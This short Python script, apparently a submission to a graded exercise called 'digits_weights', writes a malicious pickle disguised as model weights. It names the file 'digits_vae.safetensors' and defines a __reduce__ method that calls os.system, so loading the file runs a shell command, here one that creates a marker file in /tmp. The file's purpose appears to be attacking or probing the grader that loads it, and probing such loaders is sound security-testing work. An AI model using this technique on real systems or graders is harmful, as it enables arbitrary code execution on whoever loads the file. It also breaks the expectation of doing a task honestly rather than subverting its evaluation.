"""Hands in a pickle that runs code, under the name of a file of weights.

Exercise: digits_weights
Outcome: graded
"""

import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned-by-a-pickle",)


with open("digits_vae.safetensors", "wb") as file:
    pickle.dump(Run(), file)


def digits_weights():
    return "digits_vae.safetensors"
